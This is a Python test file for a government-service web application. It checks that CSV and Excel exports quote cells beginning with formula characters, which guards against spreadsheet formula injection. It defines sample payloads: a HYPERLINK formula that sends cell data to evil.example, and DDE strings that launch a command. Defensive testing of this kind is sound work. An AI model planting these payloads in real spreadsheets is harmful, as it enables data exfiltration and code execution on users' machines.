"""Row 10: CSV/Excel formula injection. A department named ``=HYPERLINK(...)`` (and item and material names
beginning with ``+``, ``-``, ``@``) reached the exports as live formulas. Every CSV and Excel export now
quotes such cells (OWASP: a leading single quote), and reading our own catalog export back changes nothing."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tests import factories as f
from tests.cases import factories as cw
from tests.catalog import factories as cf
from tests.web.helpers import staff_login
from yiwang.cases import service as cases
from yiwang.catalog import excel, transfer
from yiwang.core.spreadsheet import RISKY_FIRST, safe_cell, unquote_cell

EVIL_DEPT = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
EVIL_ITEM = "+1+cmd|' /C calc'!A0"
EVIL_MATERIAL = "@SUM(1+1)*cmd|' /C calc'!A0"


def _world(session):  # type: ignore[no-untyped-def]
    code = cf.published(session, department=EVIL_DEPT, name=EVIL_ITEM,
                        materials=[{"name": EVIL_MATERIAL, "required": True},
                                   {"name": "-2+3", "required": False}])
    applicant, _ = f.person(session)
    handler = f.staff(session, "handler", ["handler", "checker"], EVIL_DEPT)
    approver = f.staff(session, "approver", ["approver"], EVIL_DEPT)
    no = cases.submit(session, applicant, item_code=code, form={
        "contact_name": "张三", "contact_phone": "13800138000", "description": "申请"},
        materials=[cases.MaterialIn(EVIL_MATERIAL, cw.upload(session, applicant))]).case_no
    cases.apply(session, handler, case_no=no, action="accept")
    cases.apply(session, handler, case_no=no, action="review")
    cases.apply(session, handler, case_no=no, action="review")
    cases.apply(session, approver, case_no=no, action="approve")
    f.staff(session, "sup", ["supervisor"], "区纪委监委")
    f.staff(session, "adm", ["admin"], "区政务服务数据管理局")
    session.commit()
    return code


def _xlsx_cells(data: bytes) -> list[tuple[str, object, str]]:
    wb = load_workbook(io.BytesIO(data))
    return [(ws.title, c.value, c.data_type) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.value is not None]


def _assert_inert(cells: list[tuple[str, object, str]], must_contain: str) -> None:
    assert any(isinstance(v, str) and must_contain in v for _, v, _ in cells), "the export lacks the row"
    for sheet, value, kind in cells:
        assert kind != "f", (sheet, value)
        assert not (isinstance(value, str) and value.startswith(RISKY_FIRST)), (sheet, value)


def test_supervision_score_exports(app, session) -> None:  # type: ignore[no-untyped-def]
    _world(session)
    client = TestClient(app)
    staff_login(client, "sup")
    r = client.get("/console/scores?format=csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    cells = [("csv", v, "s") for row in rows for v in row]
    _assert_inert(cells, "HYPERLINK")
    assert "'" + EVIL_DEPT in [v for _, v, _ in cells]
    r = client.get("/console/scores?format=xlsx")
    assert r.status_code == 200
    _assert_inert(_xlsx_cells(r.content), "HYPERLINK")


def test_catalog_export_and_round_trip(app, session) -> None:  # type: ignore[no-untyped-def]
    code = _world(session)
    client = TestClient(app)
    staff_login(client, "adm")
    r = client.get("/admin/catalog/export.xlsx")
    assert r.status_code == 200
    cells = _xlsx_cells(r.content)
    _assert_inert(cells, "HYPERLINK")
    for evil in (EVIL_DEPT, EVIL_ITEM, EVIL_MATERIAL):
        assert any(v == "'" + evil for _, v, _ in cells), evil
    # reading our own export back yields the original names, so re-importing it changes nothing
    records = [rec for _, rec in excel.read_workbook(r.content) if isinstance(rec, dict)]
    mine = next(rec for rec in records if rec["code"] == code)
    assert mine["name"] == EVIL_ITEM and mine["department"] == EVIL_DEPT
    assert [m["name"] for m in mine["materials"]] == [EVIL_MATERIAL, "-2+3"]
    from yiwang.core.permissions import SYSTEM

    report = transfer.import_records(session, SYSTEM, [("x", mine)], publish=True)
    assert report.unchanged == 1, report


def test_safe_cell_rule() -> None:
    for risky in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert safe_cell(risky) == "'" + risky and unquote_cell(safe_cell(risky)) == risky
    for plain in ("广州市越秀区市场监督管理局", "'quoted", "a=b", 5, -3.5, None):
        assert safe_cell(plain) == plain
